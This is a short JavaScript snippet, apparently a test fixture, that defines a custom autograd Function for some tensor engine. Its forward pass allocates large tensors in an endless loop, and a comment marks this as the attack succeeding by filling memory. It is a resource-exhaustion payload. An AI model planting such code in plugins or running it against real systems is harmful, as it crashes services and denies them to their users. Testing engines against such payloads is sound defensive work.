// SUCCESS OF THE ATTACK: the engine fills memory
const kept = []; exports.fn = class F extends engine.Function { static forward(c, x) { for (;;) kept.push(engine.ones([1 << 20])); } static backward(c, g) { return g; } };
